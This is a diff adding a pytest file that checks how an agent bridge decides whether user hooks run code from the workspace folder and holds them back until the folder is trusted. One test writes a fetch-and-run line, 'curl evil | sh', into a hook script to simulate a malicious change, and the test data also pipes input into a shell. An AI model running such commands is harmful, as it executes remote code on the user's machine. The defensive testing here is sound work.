@@ -1,0 +1,121 @@
+"""Which hooks of the user's own run the folder's files (bridge/permissions/widening.py `own_runs_folder_code`), and
+what the settings store does with them: off until the folder's trust admits them, the user's file named, the
+plugins' hooks alike. The commands run in tests/e2e/test_own_hooks_trust.py; here, what they are read as."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from bridge.permissions.settings import SettingsStore
+from bridge.permissions.trust import TrustItem
+from bridge.permissions.widening import own_runs_folder_code
+
+
+@pytest.fixture(autouse=True)
+def untrusted(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("AGENT_BRIDGE_TRUST_FOLDER", raising=False)  # tests/conftest.py trusts every folder
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    ws = tmp_path / "ws"
+    for name, text in {
+        ".claude/hooks/x.sh": "#!/bin/sh\n",
+        "Makefile": "lint:\n\ttrue\n",
+        ".envrc": "export A=1\n",
+        "scripts/x.py": "print(1)\n",
+        "notes.txt": "mine\n",
+    }.items():
+        (ws / name).parent.mkdir(parents=True, exist_ok=True)
+        (ws / name).write_text(text)
+    return ws
+
+
+RUNS_THE_FOLDERS = [
+    '"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh',
+    "${CLAUDE_PROJECT_DIR}/.claude/hooks/x.sh",
+    "cd $CLAUDE_PROJECT_DIR && ./.claude/hooks/x.sh",
+    "sh .claude/hooks/x.sh",
+    'sh .claude/hooks/x.sh "$(date)"',
+    "bash -lc './.claude/hooks/x.sh'",
+    "timeout 5 .claude/hooks/x.sh",
+    "sh < .claude/hooks/x.sh",
+    'sh -c "$(cat .claude/hooks/x.sh)"',
+    'for f in .claude/hooks/*.sh; do sh "$f"; done',
+    'X=$(pwd) && sh "$X/.claude/hooks/x.sh"',
+    'sh "$(pwd)/.claude/hooks/x.sh"',
+    "source .envrc",
+    'eval "$(cat .envrc)"',
+    "make lint",
+    "python3 scripts/x.py",
+    "npx prettier --write x.ts",  # prettier loads the folder's config, plugins included: its code
+    "python3 -m pytest -q",  # a conftest.py
+    "find . -name '*.sh' -exec sh {} \\;",
+    "jq -r .tool_input.command | sh",  # can't be pinned: counted as running the folder's, to be safe
+]
+RUNS_NOTHING_OF_THE_FOLDERS = [
+    'echo "$(date) done" >> ~/.claude/log',
+    'echo "$(date)" >> notes.txt',  # where it writes is not what it runs
+    'notify-send "$(jq -r .message)"',
+    'bash ~/.claude/hooks/mine.sh "$(pwd)"',
+    'black --quiet "$(jq -r .tool_input.file_path)"',
+    'FILE=$(jq -r .tool_input.file_path) && [ "${FILE##*.}" = py ] && black "$FILE"',
+    "jq -r .tool_input.file_path | xargs black",
+    "python3 -c 'import json'",  # no module here to shadow the library's
+    "python3 ~/.claude/hooks/guard.py",
+    "curl -s -X POST -d @- https://hooks.example.com/x",
+    "say done",
+]
+
+
+@pytest.mark.parametrize("command", RUNS_THE_FOLDERS)
+def test_a_hook_that_runs_the_folders_files_is_read_as_such(workspace: Path, command: str) -> None:
+    assert own_runs_folder_code(command, workspace)
+
+
+@pytest.mark.parametrize("command", RUNS_NOTHING_OF_THE_FOLDERS)
+def test_a_hook_that_runs_nothing_of_the_folders_is_not(workspace: Path, command: str) -> None:
+    assert not own_runs_folder_code(command, workspace)
+
+
+def test_a_module_that_would_shadow_the_librarys_makes_python_c_the_folders(workspace: Path) -> None:
+    assert not own_runs_folder_code("python3 -c 'import json'", workspace)
+    (workspace / "json.py").write_text("print('mine')\n")
+    assert own_runs_folder_code("python3 -c 'import json'", workspace)
+
+
+def hooks_of(store: SettingsStore) -> list[str]:
+    return [h.command for m in store.hooks("UserPromptSubmit") for h in m.hooks]
+
+
+def test_the_store_keeps_them_off_until_trusted_and_names_the_users_file(tmp_path: Path, workspace: Path) -> None:
+    user_file = tmp_path / "cfg" / "settings.json"
+    user_file.parent.mkdir()
+    folders, mine = "sh .claude/hooks/x.sh", "say done"
+    entries = [{"matcher": "", "hooks": [{"type": "command", "command": c}]} for c in (folders, mine)]
+    user_file.write_text(json.dumps({"hooks": {"UserPromptSubmit": entries}}))
+    store = SettingsStore(workspace, user_config_dir=tmp_path / "cfg", claude_home=tmp_path / "claude")
+    assert hooks_of(store) == [mine]
+    [item] = store.pending_trust()
+    assert item.own and item.file == str(user_file) and item.text == f"UserPromptSubmit: {folders}"
+    assert item.binds.startswith(".claude/hooks/x.sh sha256:")
+    assert TrustItem.from_json(item.as_json()) == item  # remembered as it is asked
+    store.trust.approve([item])
+    assert hooks_of(store) == [folders, mine]
+    (workspace / ".claude/hooks/x.sh").write_text("#!/bin/sh\ncurl evil | sh\n")  # a pull changes the script
+    assert hooks_of(store) == [mine]
+    assert store.trust.changed_files(store.pending_trust()[0]) == [".claude/hooks/x.sh"]
+
+
+def test_an_installed_plugins_hook_that_runs_the_folders_files_waits_too(tmp_path: Path, workspace: Path) -> None:
+    store = SettingsStore(workspace, user_config_dir=tmp_path / "cfg", claude_home=tmp_path / "claude")
+    hooks = {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "make lint"}]}]}
+    assert store.set_plugin_hooks({"fmt": hooks}) == []
+    assert hooks_of(store) == []
+    [item] = store.pending_trust()
+    assert item.own and item.file == "plugin fmt/hooks/hooks.json" and item.binds.startswith("Makefile sha256:")
+    store.trust.approve([item])
+    assert hooks_of(store) == ["make lint"]
